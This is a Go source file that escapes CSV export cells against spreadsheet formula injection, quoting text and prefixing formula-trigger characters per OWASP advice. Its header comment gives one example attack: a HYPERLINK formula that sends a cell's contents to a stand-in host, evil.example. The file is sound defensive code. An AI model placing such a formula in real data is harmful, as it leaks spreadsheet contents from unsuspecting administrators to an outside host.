package api

import (
	"bufio"
	"io"
	"strings"
	"unicode/utf8"
)

// CSV exports are opened in spreadsheets, where a cell that starts with
// "=", "+", "-" or "@" is a formula: a learner's profile name such as
// =HYPERLINK("http://evil.example/?x="&A1,"click") would run in the
// administrator's spreadsheet. The exports follow OWASP's advice for CSV
// injection, with one rule for numbers:
//
//   - A number is written as a plain decimal literal (-?digits[.digits]),
//     unquoted: "12", "-0.5". A spreadsheet reads it as that number, never
//     as a formula, so a negative value stays a negative number.
//   - Every other non-empty cell is text: wrapped in double quotes (so that
//     an embedded separator, whichever one the spreadsheet guesses, never
//     starts a new cell), its double quotes doubled, and prefixed with a
//     single quote when it would start a formula: when its first character,
//     after any leading spaces, is one of = + - @ TAB CR LF or their
//     full-width forms (＝ ＋ － ＠). (A text value that is itself a
//     plain number, a username "-5", is written as the number: harmless.)
//   - NULL is the empty cell, as before.
//
// The header row holds only our own column names ([a-z0-9._]), written
// bare.

// csvWriter writes records with those rules through a small buffer.
type csvWriter struct {
	b *bufio.Writer
}

func newCSVWriter(w io.Writer) *csvWriter { return &csvWriter{b: bufio.NewWriterSize(w, 4096)} }

// header writes the column names, bare.
func (cw *csvWriter) header(names []string) error {
	cw.b.WriteString(strings.Join(names, ","))
	return cw.b.WriteByte('\n')
}

// record writes one record.
func (cw *csvWriter) record(cells []string) error {
	for i, c := range cells {
		if i > 0 {
			cw.b.WriteByte(',')
		}
		writeCSVCell(cw.b, c)
	}
	return cw.b.WriteByte('\n')
}

// flush writes what is buffered.
func (cw *csvWriter) flush() error { return cw.b.Flush() }

// writeCSVCell writes one cell by the rules above.
func writeCSVCell(b *bufio.Writer, s string) {
	switch {
	case s == "":
		return
	case csvNumber(s):
		b.WriteString(s)
		return
	}
	b.WriteByte('"')
	if startsFormula(s) {
		b.WriteByte('\'')
	}
	for {
		i := strings.IndexByte(s, '"')
		if i < 0 {
			break
		}
		b.WriteString(s[:i+1])
		b.WriteByte('"')
		s = s[i+1:]
	}
	b.WriteString(s)
	b.WriteByte('"')
}

// csvNumber reports whether s is a plain decimal number: an optional
// minus, digits, and optionally a point and more digits. That is how every
// numeric cell is formatted (csvInt, csvFloat, decimalString), and what a
// spreadsheet reads as a number.
func csvNumber(s string) bool {
	if len(s) > 0 && s[0] == '-' {
		s = s[1:]
	}
	intPart, frac, hasPoint := strings.Cut(s, ".")
	return allDigits(intPart) && (!hasPoint || allDigits(frac))
}

func allDigits(s string) bool {
	if s == "" {
		return false
	}
	for i := 0; i < len(s); i++ {
		if s[i] < '0' || s[i] > '9' {
			return false
		}
	}
	return true
}

// startsFormula reports whether a spreadsheet could read text s as a
// formula (or a DDE command): its first character, leading spaces
// skipped, is a formula trigger.
func startsFormula(s string) bool {
	s = strings.TrimLeft(s, " ")
	if s == "" {
		return false
	}
	r, _ := utf8.DecodeRuneInString(s)
	switch r {
	case '=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠':
		return true
	}
	return false
}
